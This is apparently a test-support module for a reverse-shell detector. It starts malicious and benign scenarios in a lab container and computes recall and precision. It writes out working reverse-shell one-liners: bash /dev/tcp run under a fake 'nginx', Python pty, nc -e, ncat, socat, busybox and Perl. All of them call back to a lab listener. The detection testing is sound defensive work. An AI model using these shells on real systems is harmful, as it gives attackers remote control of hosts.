@@ -1,0 +1,272 @@
+"""Real reverse shells and benign long-lived connections inside a lab container (test support).
+
+Everything connects to :class:`Listener` on the lab bridge address 198.18.0.1 (a
+controller-side socket server that accepts, holds and closes within its lifetime).
+Binaries the lab state purged (nc.traditional, ncat, socat, busybox) are copied out of
+the lab image into ``/opt/hunt-test/bin`` of the container.
+
+Example::
+
+    with Listener() as lst:
+        pids = start_scenarios(container, lst.port)
+"""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import secrets
+import shlex
+import socket
+import subprocess
+import tempfile
+import threading
+import time
+from dataclasses import dataclass
+from pathlib import Path
+
+GATEWAY = "198.18.0.1"
+BIN = "/opt/hunt-test/bin"
+COPIED = ("/usr/bin/nc.traditional", "/usr/bin/ncat", "/usr/bin/socat", "/usr/bin/busybox", "/usr/bin/python3.11")
+
+
+class Listener:
+    """A bounded TCP server on 198.18.0.1: accepts up to ``max_conns``, holds them, closes all
+    after ``lifetime`` seconds or on exit. Sends nothing (shells just sit at their prompt)."""
+
+    def __init__(self, lifetime: float = 90.0, max_conns: int = 64) -> None:
+        self.lifetime = lifetime
+        self.max_conns = max_conns
+        self.conns: list[socket.socket] = []
+        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        self.sock.bind((GATEWAY, 0))
+        self.sock.listen(64)
+        self.sock.settimeout(0.2)
+        self.port = self.sock.getsockname()[1]
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+
+    def _serve(self) -> None:
+        end = time.monotonic() + self.lifetime
+        while not self._stop.is_set() and time.monotonic() < end:
+            try:
+                conn, _ = self.sock.accept()
+            except TimeoutError:
+                continue
+            except OSError:
+                break
+            if len(self.conns) >= self.max_conns:
+                conn.close()
+                continue
+            self.conns.append(conn)
+        self.close_all()
+
+    def close_all(self) -> None:
+        for c in self.conns:
+            with contextlib.suppress(OSError):
+                c.close()
+        with contextlib.suppress(OSError):
+            self.sock.close()
+
+    def __enter__(self) -> Listener:
+        self._thread.start()
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        self._stop.set()
+        self._thread.join(timeout=5)
+        self.close_all()
+
+
+def podman(*args: str, check: bool = True, timeout: float = 60) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(["podman", *args], capture_output=True, text=True, check=check, timeout=timeout)
+
+
+def sh(container: str, script: str, check: bool = True) -> str:
+    return podman("exec", container, "sh", "-c", script, check=check).stdout
+
+
+def copy_binaries(image: str, container: str) -> None:
+    """Copy the netcat-likes (and python3 as a fake nginx) out of the image into the container."""
+    tmp = Path(tempfile.mkdtemp(prefix="hunt-bin-"))
+    name = f"hunt-copy-{secrets.token_hex(4)}"
+    podman("create", "--name", name, image, "true")
+    try:
+        for path in COPIED:
+            podman("cp", f"{name}:{path}", str(tmp / Path(path).name))
+    finally:
+        podman("rm", "-f", name)
+    sh(container, f"mkdir -p {BIN}")
+    for f in tmp.iterdir():
+        podman("cp", str(f), f"{container}:{BIN}/{f.name}")
+        f.unlink()
+    tmp.rmdir()
+    sh(container, f"cp {BIN}/python3.11 {BIN}/nginx && chmod 755 {BIN}/*")
+
+
+@dataclass(frozen=True)
+class Scenario:
+    """``name``: what it is; ``malicious``: a reverse shell (True) or benign; ``tag``: a unique
+    argument marker that finds its processes; ``command``: the sh command started detached."""
+
+    name: str
+    malicious: bool
+    command: str
+    marker: str = ""  # a command-line substring that finds the scenario's first process
+
+
+def scenarios(port: int) -> tuple[Scenario, ...]:
+    a = f"{GATEWAY}"
+    py_pty = (
+        "import socket,os,pty;s=socket.socket();s.connect(('HOST',PORT));"
+        "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/bash')"
+    )
+    perl = (
+        'use Socket;$i="HOST";$p=PORT;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
+        'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
+        'open(STDERR,">&S");exec("/bin/sh -i");};'
+    )
+    nginx = (
+        "import socket,subprocess,time;l=socket.socket();l.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);"
+        "l.bind(('0.0.0.0',8080));l.listen();"
+        "subprocess.Popen(['/bin/bash','-c','bash -i >& /dev/tcp/HOST/PORT 0>&1']);time.sleep(120)"
+    )
+    poller = (
+        "import http.client,time\n"
+        "c=http.client.HTTPConnection('HOST',PORT,timeout=120)\n"
+        "c.connect()\nc.sock.sendall(b'GET /health HTTP/1.1\\r\\nHost: api\\r\\n\\r\\n')\ntime.sleep(120)\n"
+    )
+    py_pty, perl, nginx, poller = (
+        t.replace("HOST", a).replace("PORT", str(port)) for t in (py_pty, perl, nginx, poller)
+    )
+    return (
+        Scenario("bash /dev/tcp under nginx", True, f"exec {BIN}/nginx -c {shlex.quote(nginx)}", "nginx -c import"),
+        Scenario("python pty + dup2", True, f"exec python3 -c {shlex.quote(py_pty)}", "pty.spawn"),
+        Scenario(
+            "nc -e (netcat-traditional)", True, f"exec {BIN}/nc.traditional -e /bin/sh {a} {port}", "nc.traditional -e"
+        ),
+        Scenario("ncat --sh-exec", True, f"exec {BIN}/ncat {a} {port} --sh-exec 'sh -i'", "--sh-exec"),
+        Scenario(
+            "socat exec", True, f"exec {BIN}/socat TCP:{a}:{port} EXEC:/bin/bash,pty,stderr,setsid", "EXEC:/bin/bash"
+        ),
+        Scenario("busybox nc -e", True, f"exec {BIN}/busybox nc {a} {port} -e /bin/sh", "busybox nc "),
+        Scenario("perl socket + exec", True, f"exec perl -e {shlex.quote(perl)}", "perl -e use Socket"),
+        Scenario(
+            "python http client (script) holding a connection",
+            False,
+            f"mkdir -p /opt/app && printf %s {shlex.quote(poller)} > /opt/app/poller.py && "
+            "exec python3 /opt/app/poller.py </dev/null >/dev/null 2>&1",
+            "poller.py",
+        ),
+        Scenario(
+            "ssh client waiting on a banner",
+            False,
+            f"exec ssh -o BatchMode=yes -o StrictHostKeyChecking=no -p {port} probe@{a} </dev/null >/dev/null 2>&1",
+            "probe@",
+        ),
+    )
+
+
+def start(container: str, s: Scenario, index: int) -> None:
+    """Start a scenario detached (``podman exec -d``); ``HUNT_SCENARIO=index`` in its environment
+    follows it through exec and fork, so its processes are found even after ``nc -e`` execs a shell."""
+    podman("exec", "-d", "-e", f"HUNT_SCENARIO={index}", container, "sh", "-c", s.command)
+
+
+def scenario_pids(container: str) -> dict[int, set[int]]:
+    """scenario index -> pids whose environment carries ``HUNT_SCENARIO=index``."""
+    out = sh(container, "grep -a -o -s 'HUNT_SCENARIO=[0-9]*' /proc/[0-9]*/environ; true")
+    result: dict[int, set[int]] = {}
+    for line in out.splitlines():
+        path, _, value = line.partition(":HUNT_SCENARIO=")
+        pid = path.split("/")[2] if path.count("/") >= 3 else ""
+        if pid.isdigit() and value.isdigit():
+            result.setdefault(int(value), set()).add(int(pid))
+    return result
+
+
+def pids_of(container: str) -> dict[int, str]:
+    """pid -> cmdline of every process of the container (for cleanup and for matching)."""
+    out = sh(container, "for p in /proc/[0-9]*; do printf '%s ' ${p#/proc/}; tr '\\0' ' ' < $p/cmdline; echo; done")
+    result = {}
+    for line in out.splitlines():
+        pid, _, cmd = line.partition(" ")
+        if pid.isdigit():
+            result[int(pid)] = cmd.strip()
+    return result
+
+
+def kill(container: str, pids: set[int]) -> None:
+    if pids:
+        sh(container, "kill -9 " + " ".join(map(str, sorted(pids))) + " 2>/dev/null; true", check=False)
+
+
+def interactive_ssh(port: int, key: Path, known_hosts: Path, user: str = "harden") -> subprocess.Popen[bytes]:
+    """A real interactive SSH session (pty, login shell) from the controller, kept open."""
+    argv = ["ssh", "-tt", "-i", str(key), "-p", str(port), "-o", f"UserKnownHostsFile={known_hosts}"]
+    argv += ["-o", "StrictHostKeyChecking=yes", "-o", "BatchMode=yes", f"{user}@127.0.0.1"]
+    proc = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    assert proc.stdin is not None
+    proc.stdin.write(b"sleep 100\n")
+    proc.stdin.flush()
+    return proc
+
+
+def wait_connected(listener: Listener, count: int, timeout: float = 10.0) -> int:
+    end = time.monotonic() + timeout
+    while len(listener.conns) < count and time.monotonic() < end:
+        time.sleep(0.1)
+    return len(listener.conns)
+
+
+def ensure_env() -> None:
+    os.environ.setdefault("ANSIBLE_NOCOLOR", "1")
+
+
+INTERACTIVE = Scenario("interactive SSH session (pty, login shell)", False, "", "sshd: harden@pts")
+
+
+@dataclass(frozen=True)
+class Outcome:
+    scenario: Scenario
+    pids: frozenset[int]
+    tier: str  # highest tier among the scenario's processes: high, medium, low, or "" (none)
+
+
+def interactive_pids(snapshot) -> set[int]:
+    """The interactive SSH session: ``sshd: USER@pts/N`` and everything under it."""
+    kids = snapshot.children()
+    tree = {p.pid for p in snapshot.processes.values() if "@pts/" in p.cmdline and p.cmdline.startswith("sshd:")}
+    todo = list(tree)
+    while todo:
+        for c in kids.get(todo.pop(), ()):
+            if c not in tree:
+                tree.add(c)
+                todo.append(c)
+    return tree
+
+
+def outcomes(detections, groups: list[tuple[Scenario, set[int]]]) -> list[Outcome]:
+    """Per scenario: the highest tier among its processes."""
+    rank = {"": 0, "low": 1, "medium": 2, "high": 3}
+    by_pid = {d.pid: d.severity.value for d in detections}
+    return [
+        Outcome(case, frozenset(pids), max((by_pid.get(p, "") for p in pids), key=rank.__getitem__, default=""))
+        for case, pids in groups
+    ]
+
+
+def precision_recall(results: list[Outcome], detections) -> dict[str, float]:
+    """Scenario recall (malicious caught at medium or high) and precision over detections at medium+."""
+    bad = [o for o in results if o.scenario.malicious]
+    caught = [o for o in bad if o.tier in ("high", "medium")]
+    bad_pids = set().union(*(o.pids for o in bad)) if bad else set()
+    flagged = [d for d in detections if d.severity.value in ("high", "medium")]
+    true_pos = [d for d in flagged if d.pid in bad_pids]
+    high = [d for d in detections if d.severity.value == "high"]
+    return {
+        "recall": len(caught) / len(bad) if bad else 1.0,
+        "precision": len(true_pos) / len(flagged) if flagged else 1.0,
+        "precision_high": sum(d.pid in bad_pids for d in high) / len(high) if high else 1.0,
+    }
